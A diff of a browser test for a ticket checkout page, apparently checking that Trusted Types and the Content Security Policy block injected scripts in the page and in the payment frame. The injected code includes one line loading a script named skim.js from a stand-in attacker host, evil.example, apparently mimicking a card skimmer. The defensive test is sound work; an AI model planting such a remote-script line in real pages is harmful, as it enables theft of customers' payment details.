@@ -161,11 +161,24 @@ describe('browser performance page', { skip }, () => {
     const show = await createShow(server.t.app, { rows: 1, perRow: 5 });
     const held = await hold(server.t.app, show.performanceId, { categoryId: show.categories.Front, quantity: 1 });
     await withPage(browser, async ({ page, problems }) => {
+      // Code that got into a page tries both ways in: a script built from a string (refused by
+      // Trusted Types before any CSP check) and a script from another origin (refused by the CSP).
       const inject = () => {
-        const doc = (globalThis as unknown as { document: { createElement(t: string): { textContent: string }; body: { append(n: unknown): void } } }).document;
-        const script = doc.createElement('script');
-        script.textContent = 'globalThis.inlineRan = true';
-        doc.body.append(script);
+        const doc = (
+          globalThis as unknown as { document: { createElement(t: string): { textContent: string; src: string }; body: { append(n: unknown): void } } }
+        ).document;
+        try {
+          doc.createElement('script').textContent = 'globalThis.inlineRan = true';
+        } catch {
+          // Trusted Types: refused and reported.
+        }
+        try {
+          const script = doc.createElement('script');
+          script.src = 'https://evil.example/skim.js';
+          doc.body.append(script);
+        } catch {
+          // Trusted Types again: a script URL must come from the page's own policy.
+        }
       };
       // The hold was made through the API, not in this tab: give the tab its token, as a hold made here would have.
       const { holdId, holdToken } = held.json();
@@ -177,14 +190,18 @@ describe('browser performance page', { skip }, () => {
       await frame!.locator('#cardNumber').waitFor();
       await page.evaluate(inject);
       await frame!.evaluate(inject);
-      for (let i = 0; i < 50 && problems.length < 4; i++) await new Promise((resolve) => setTimeout(resolve, 50));
+      const seen = () =>
+        problems.some((p) => p.includes(`${server.baseUrl}/checkout/`)) &&
+        problems.some((p) => p.includes(`${server.paymentOrigin}/pay/`)) &&
+        problems.some((p) => p.startsWith('CSP console:'));
+      for (let i = 0; i < 60 && !seen(); i++) await new Promise((resolve) => setTimeout(resolve, 50));
       const reported = problems.join('\n');
       assert.ok(
-        problems.some((p) => p.startsWith('CSP violation: script-src') && p.includes(`${server.baseUrl}/checkout/`)),
+        problems.some((p) => p.startsWith('CSP violation: require-trusted-types-for') && p.includes(`${server.baseUrl}/checkout/`)),
         reported,
       );
       assert.ok(
-        problems.some((p) => p.startsWith('CSP violation: script-src') && p.includes(`${server.paymentOrigin}/pay/`)),
+        problems.some((p) => p.startsWith('CSP violation: require-trusted-types-for') && p.includes(`${server.paymentOrigin}/pay/`)),
         reported,
       );
       assert.ok(
